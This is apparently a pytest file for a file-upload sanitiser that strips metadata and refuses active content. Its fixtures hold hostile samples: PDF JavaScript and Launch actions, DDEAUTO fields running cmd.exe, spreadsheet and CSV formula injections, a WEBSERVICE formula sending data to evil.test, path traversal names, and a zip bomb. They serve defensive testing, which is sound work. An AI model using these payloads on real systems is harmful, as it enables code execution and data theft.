"""What comes in is harmless, tells nothing, and is what its content says; the rest is refused in plain words."""

from __future__ import annotations

import io
import zipfile
import zlib

import openpyxl
import pikepdf
import pytest
from django.test import override_settings
from PIL import Image

from nowrongdoor.uploads import checking, kinds, reading, refusing
from tests.uploads import files
from tests.uploads.files import TOLD

EXTERNAL = 'TargetMode="External"'


@pytest.fixture(autouse=True)
def without_scanner() -> object:
    """These claims are about content; test_scanning.py is about the scanner."""
    with override_settings(SCAN="off", CLAMD=""):
        yield


def everything_in(content: bytes) -> bytes:
    """A file's bytes, and whatever is packed inside them."""
    found = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as package:
            found += [package.read(name) for name in package.namelist()]
    if content.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(content)) as pdf:
            found += [bytes(each.unparse()) for each in pdf.objects]
            streams = [each for each in pdf.objects if isinstance(each, pikepdf.Stream)]
            found += [each.read_raw_bytes() for each in streams]
            found += [
                zlib.decompressobj().decompress(each.read_raw_bytes())
                for each in streams
                if str(each.get("/Filter")).partition("FlateDecode")[0] in ("/", 'pikepdf.Array([ "/')
            ]
    return b"\0".join(found)


HONEST = [
    (files.pdf(), kinds.Kind.PDF),
    (files.jpeg(), kinds.Kind.JPEG),
    *((files.png(mode), kinds.Kind.PNG) for mode in ("1", "L", "P", "RGB", "RGBA")),
    (files.workbook(), kinds.Kind.XLSX),
    (files.document(), kinds.Kind.DOCX),
]


@pytest.mark.parametrize(("content", "kind"), HONEST, ids=[f"{kind.name}{at}" for at, (_, kind) in enumerate(HONEST)])
def test_a_file_is_what_its_content_says_and_tells_nothing_more(content: bytes, kind: kinds.Kind) -> None:
    assert TOLD.encode() in everything_in(content)
    for name in (f"{TOLD}.exe", "../../etc/passwd", "x.txt", ""):
        clean = files.read(name, content)
        assert (clean.kind, clean.name) == (kind, kind.file_name)
        assert TOLD.encode() not in everything_in(clean.content)
    again = files.read("again", clean.content)
    assert again.kind is kind, "what came out may come in"


def test_a_picture_is_still_the_picture_the_right_way_up() -> None:
    with Image.open(io.BytesIO(files.read("", files.jpeg()).content)) as shown:
        assert shown.size == (48, 64)
        assert shown.getpixel((5, 5))[0] > 150  # type: ignore[index]
        assert not shown.getexif()


def test_a_workbook_and_a_document_and_a_pdf_still_say_what_they_said() -> None:
    book = openpyxl.load_workbook(io.BytesIO(files.read("", files.workbook()).content))
    sheet = book["First"]
    assert (sheet["A2"].value, sheet["B1"].value) == ("Zuzana is safe", "=SUM(A1:A2)")
    with zipfile.ZipFile(io.BytesIO(files.read("", files.document()).content)) as package:
        assert b"<w:t>Safe</w:t>" in package.read("word/document.xml")
        assert Image.open(io.BytesIO(package.read("word/media/image1.jpeg"))).size == (64, 48)
    with pikepdf.open(io.BytesIO(files.read("", files.pdf()).content)) as pdf:
        photograph = pdf.pages[0].Resources.XObject.P
        assert isinstance(photograph, pikepdf.Stream)
        assert pikepdf.PdfImage(photograph).as_pil_image().size == (64, 48)


@pytest.mark.parametrize(
    ("name", "content", "kind", "out"),
    [
        ("note.txt", "Zuzana është mirë\n".encode(), kinds.Kind.TEXT, "Zuzana është mirë\n"),
        ("note.txt", "\ufeffmarked".encode(), kinds.Kind.TEXT, "marked"),
        ("note", "sixteen".encode("utf-16"), kinds.Kind.TEXT, "sixteen"),
        ("t.CSV", b"a;b\n-5;+7 %\n", kinds.Kind.CSV, "a;b\n-5;+7 %\n"),
        ("t.csv", b"no table here", kinds.Kind.TEXT, "no table here"),
        ("t.txt", b"a,b\n1,2", kinds.Kind.TEXT, "a,b\n1,2"),
        ("page.pdf", b"<script>alert(1)</script>", kinds.Kind.TEXT, "<script>alert(1)</script>"),
    ],
)
def test_plain_text_stays_the_same_text_in_utf8(name: str, content: bytes, kind: kinds.Kind, out: str) -> None:
    clean = files.read(name, content)
    assert (clean.kind, clean.content.decode()) == (kind, out)
    assert clean.kind.media_type.startswith("text/")


RUNS_PDF = {
    "script when opened": files.pdf(OpenAction=files.action("JavaScript", JS=pikepdf.String("app.alert(1)"))),
    "script by name": files.pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array()))),
    "program when opened": files.pdf(OpenAction=files.action("Launch", F=pikepdf.String("cmd.exe"))),
    "deep inside": files.pdf(X=pikepdf.Array([pikepdf.Dictionary(Next=pikepdf.Array([files.action("Launch")]))])),
    "sends itself": files.pdf(AA=pikepdf.Dictionary(WC=files.action("SubmitForm"))),
    "file inside": files.pdf(Names=pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([])))),
    "file on a page": files.pdf(X=pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment)),
    "film": files.pdf(X=pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)),
    "form that runs": files.pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.Array([]))),
}
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
BODY = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w">%s</w:document>'
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def cell(formula: str) -> bytes:
    """A workbook with a formula as it is written in XML."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(files.workbook())) as source, zipfile.ZipFile(out, "w") as package:
        for name in source.namelist():
            package.writestr(name, source.read(name).replace(b"SUM(A1:A2)", formula.encode()))
    return out.getvalue()


RUNS_OFFICE = {
    "macros by type": files.document(kind=MACROS),
    "macros by part": files.document({"word/vbaProject.bin": b"x"}),
    "object inside": files.document({"word/embeddings/oleObject1.bin": b"x"}),
    "unknown part": files.document({"word/x.exe": b"MZ"}),
    "control": files.document({"word/activeX/activeX1.xml": "<x/>"}),
    "template elsewhere": files.document(
        {"word/_rels/settings.xml.rels": files.relationships("attachedTemplate", "http://evil.test/t.dotm", EXTERNAL)}
    ),
    "picture elsewhere": files.document(
        {"word/_rels/document.xml.rels": files.relationships("image", "http://evil.test/x.png", EXTERNAL)}
    ),
    "hyperlink to a program": files.document(
        {"word/_rels/document.xml.rels": files.relationships("hyperlink", "file:///c:/x.exe", EXTERNAL)}
    ),
    "HTML inside": files.document({"word/_rels/document.xml.rels": files.relationships("aFChunk", "page.html")}),
    "DDE field": files.document({"word/document.xml": BODY % "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
    "DDE field in pieces": files.document(
        {"word/document.xml": BODY % "<w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO x</w:instrText>"}
    ),
    "DDE field spelled by numbers": files.document(
        {"word/document.xml": BODY % "<w:instrText>&#68;DEAUTO c:\\\\cmd.exe</w:instrText>"}
    ),
    "DDE field in a section of text": files.document(
        {"word/document.xml": BODY % "<w:instrText><![CDATA[DDEAUTO c:\\\\cmd.exe]]></w:instrText>"}
    ),
    "DDE field around a comment": files.document(
        {"word/document.xml": BODY % "<w:instrText>DDE<!-- -->AUTO c:\\\\cmd.exe</w:instrText>"}
    ),
    "DDE field of one element": files.document(
        {"word/document.xml": BODY % "<w:fldSimple w:instr = 'DDE&#65;UTO x'/>"}
    ),
    "picture elsewhere under the name of a link": files.document(
        {
            "word/document.xml": BODY % f"<a:blip xmlns:a='a' xmlns:r='{RELATIONSHIPS}' r:link='rId1'/>",
            "word/_rels/document.xml.rels": files.relationships("hyperlink", "http://evil.test/x.png", EXTERNAL),
        }
    ),
    "part of another document": files.document(
        {"word/_rels/document.xml.rels": files.relationships("subDocument", "x")}
    ),
    "connection under another name": files.document(
        {"word/_rels/document.xml.rels": files.relationships("connections", "x.xml")}
    ),
    "formula spelled by numbers": cell("&#87;EBSERVICE(A1)"),
    "formula in a section of text": cell("<![CDATA[WEBSERVICE(A1)]]>"),
    "formula around a comment": cell("WEB<!-- -->SERVICE(A1)"),
    "formula of a rule": cell("1</f><formula1>WEBSERVICE(A1)</formula1><f>1"),
    "formula that calls out": files.workbook('=WEBSERVICE("http://evil.test/?"&A1)'),
    "formula that starts a program": files.workbook("=cmd|'/C calc'!A0"),
}
TABLES = {
    "formula": b"name,x\n=HYPERLINK(1),2\n",
    "at sign": b"name,x\n@SUM(1),2\n",
    "plus": b"name,x\n+cmd|' /C calc'!A0,2\n",
    "minus after a number": b"name,x\n-1+cmd|'/C calc'!A0,2\n",
    "another separator": b"name,x,y\na,b;=1,c\n",
    "tab among semicolons": b"name;x\na;b\t=1\n",
    "bar": b"name,x\na,b|=1\n",
    "inside quotation marks": b'name,x\na,"b;=1"\n',
    "line inside quotation marks": b'name,x\na,"b\n=1"\n',
    "line that ends as of old": b'name,x\na,"b\r=1"\n',
    "quotation marks that begin late": b'name;x\na "b;"=1"\n',
    "after two marks": "\ufeff\ufeff=1,2\n".encode(),
    "after a mark without a width": "name,x\n\u200b=1,2\n".encode(),
    "full width": "name,x\n＝1,2\n".encode(),
    "small": "name,x\n﹦1,2\n".encode(),
    "in sixteen bits": "name,x\na,b;=1\n".encode("utf-16"),
    "separator of its own": b"sep=^,\na^=1,x\n",
    "only with bars": b"name|x,y\na|=1\n",
}


@pytest.mark.parametrize("what", [*RUNS_PDF, *RUNS_OFFICE, *TABLES])
def test_what_would_run_or_call_out_is_refused(what: str) -> None:
    content = RUNS_PDF.get(what) or RUNS_OFFICE.get(what) or TABLES[what]
    with pytest.raises(refusing.ActiveContent, match=r"Save it without, or print it to PDF\.$"):
        files.read("table.csv", content)


def test_a_link_that_a_person_follows_may_stay() -> None:
    link = files.relationships("hyperlink", "https://www.acf.hhs.gov/otip", EXTERNAL)
    words = BODY % f"<w:hyperlink xmlns:r='{RELATIONSHIPS}' r:id='rId1'/>"
    sent = files.document({"word/_rels/document.xml.rels": link, "word/document.xml": words})
    assert b"acf.hhs.gov" in everything_in(files.read("", sent).content)


def test_an_address_that_a_drawing_names_itself_is_taken_out() -> None:
    drawing = BODY % "<v:imagedata xmlns:v='v' src='http://evil.test/x.png'/>"
    assert b"evil.test" not in everything_in(files.read("", files.document({"word/document.xml": drawing})).content)


DOCTYPE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
BOMB = files.document({f"word/x{at}.xml": b" " * 10_000_000 for at in range(9)})
UNREADABLE = {
    "nothing": (b"", "empty"),
    "a program": (b"MZ\x90\x00\x03", "cannot be taken in"),
    "an old Word file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "cannot be taken in"),
    "another archive": (files.document({"[Content_Types].xml": "<Types/>"}), "cannot be taken in"),
    "half a PDF": (b"%PDF-1.7\nnothing", "cannot be read"),
    "a locked PDF": (files.locked_pdf(), "password"),
    "half a picture": (files.jpeg()[:200], "cannot be read"),
    "a picture of ten billion points": (files.claims_to_be_vast(), "picture"),
    "half an archive": (files.workbook()[:900], "cannot be read"),
    "an archive that unpacks to too much": (BOMB, "unpacks to too much"),
    "XML with entities": (files.document({"word/styles.xml": DOCTYPE}), "cannot be read"),
    "XML in another alphabet": (files.document({"word/styles.xml": "<x/>".encode("utf-16")}), "cannot be read"),
    "a path out": (files.document({"../../x.xml": "<x/>"}), "cannot be checked"),
    "too many bytes": (b"x" * (checking.LIMIT + 1), "at most 20 MB"),
}


@pytest.mark.parametrize("what", UNREADABLE)
def test_what_cannot_be_checked_is_refused_and_says_what_to_do(what: str) -> None:
    content, said = UNREADABLE[what]
    with pytest.raises(refusing.Refused, match=said) as refused:
        checking.check("x.csv", content)
    assert any(word in str(refused.value) for word in ("send", "Send", "Save", "print", "Choose"))


def test_every_kind_of_damage_is_refused_and_never_a_fault() -> None:
    """Honest files with bytes changed all over, the same ones every time."""
    for content, _ in HONEST:
        for at in range(0, len(content), max(1, len(content) // 60)):
            damaged = bytearray(content)
            damaged[at] ^= 0xFF
            try:
                clean = files.read("x", bytes(damaged))
            except refusing.Refused:
                continue
            assert clean.kind in kinds.Kind


def test_the_limit_on_a_request_leaves_room_for_the_largest_file() -> None:
    from nowrongdoor.access import edge

    assert checking.LIMIT < edge.UPLOAD_LIMIT
    assert set(reading.CLEAN) == set(kinds.Kind)
